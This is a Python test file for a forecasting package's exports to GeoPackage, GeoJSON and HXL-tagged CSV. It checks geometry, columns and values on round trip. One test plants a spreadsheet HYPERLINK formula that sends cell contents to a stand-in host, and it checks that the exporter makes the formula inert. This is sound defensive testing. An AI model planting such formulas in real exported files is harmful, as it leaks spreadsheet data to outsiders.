"""Exports: GeoPackage and GeoJSON round-trip with geopandas; the HXL CSV has its hashtag row."""

from __future__ import annotations

import csv

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest

from forewarn.reports import HXL_TAGS, SCORE_COLUMNS, write_exports

from .conftest import NASTY


@pytest.fixture(scope="module")
def exported(report_data, tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    return write_exports(report_data, folder)


def test_files(exported):
    assert [p.name for p in exported] == ["regions.gpkg", "regions.geojson", "scores_hxl.csv"]


@pytest.mark.parametrize("name", ["regions.gpkg", "regions.geojson"])
def test_round_trip_with_geopandas(report_data, exported, name):
    path = exported[0].parent / name
    got = gpd.read_file(path, layer="scores") if name.endswith("gpkg") else gpd.read_file(path)
    assert got.crs.to_epsg() == 4326
    want = report_data.scores.reset_index(drop=True)
    assert list(got.columns[:len(SCORE_COLUMNS) + 1]) == [*SCORE_COLUMNS[:3], "parent_name",
                                                          *SCORE_COLUMNS[3:]]
    assert got["region_id"].tolist() == want["region_id"].tolist()
    assert NASTY in got["name"].tolist()
    np.testing.assert_allclose(got["probability"], want["probability"], atol=1e-9)
    assert got["low_reliability"].astype(bool).tolist() == want["low_reliability"].tolist()
    assert (got["origin"] == "2020-11-30").all()
    assert got["note"].str.startswith("DEMO DATA").all()
    regions = report_data.regions.loc[got["region_id"]]
    # GeoJSON keeps 6 decimals and turns rings counter-clockwise (RFC 7946).
    tolerance = 1e-5 if name.endswith("geojson") else 1e-12
    assert got.geometry.normalize().reset_index(drop=True).geom_equals_exact(
        regions.geometry.normalize().reset_index(drop=True), tolerance).all()


def test_geopackage_has_the_parents_and_a_rerun_replaces_it(report_data, exported):
    layers = dict(pyogrio.list_layers(exported[0]))
    assert set(layers) == {"scores", "parents"}
    again = write_exports(report_data, exported[0].parent)
    assert len(gpd.read_file(again[0], layer="scores")) == len(report_data.scores)


def test_hxl_csv(report_data, exported):
    with open(exported[2], encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header, tags = rows[0], rows[1]
    assert header[:4] == ["region_id", "name", "parent_id", "parent_name"]
    assert tags[:5] == ["#adm1+code", "#adm1+name", "#adm0+code", "#adm0+name", "#date+forecast"]
    assert dict(zip(header, tags))["probability"] == "#indicator+probability"
    assert all(t.startswith("#") for t in tags) and len(header) == len(HXL_TAGS)
    data = pd.read_csv(exported[2], skiprows=[1], keep_default_na=False)
    assert len(data) == len(report_data.scores)
    assert NASTY in data["name"].tolist()
    unscored = data[data["probability"].astype(str) == ""]
    assert len(unscored) == len(report_data.horizons)  # missing stays empty, not "nan"
    assert set(data["low_reliability"]) <= {True, False}


def test_spreadsheet_formulas_in_region_names_are_made_inert(report_data, tmp_path):
    import dataclasses

    from forewarn.reports import spreadsheet_safe

    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    first = report_data.scores["region_id"].iloc[0]
    scores = report_data.scores.copy()
    scores.loc[scores["region_id"] == first, "name"] = hostile
    regions = report_data.regions.copy()
    regions.loc[first, "name"] = hostile
    data = dataclasses.replace(report_data, scores=scores, regions=regions)
    write_exports(data, tmp_path)
    with open(tmp_path / "scores_hxl.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    names = [r[1] for r in rows[2:]]
    assert "'" + hostile in names and hostile not in names
    for cell in (c for r in rows[2:] for c in r):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    safe = spreadsheet_safe(pd.DataFrame({"t": ["+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "ok"],
                                          "n": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]}))
    assert safe["t"].tolist() == ["'+1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
    assert safe["n"].tolist() == [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0]  # numbers stay numbers
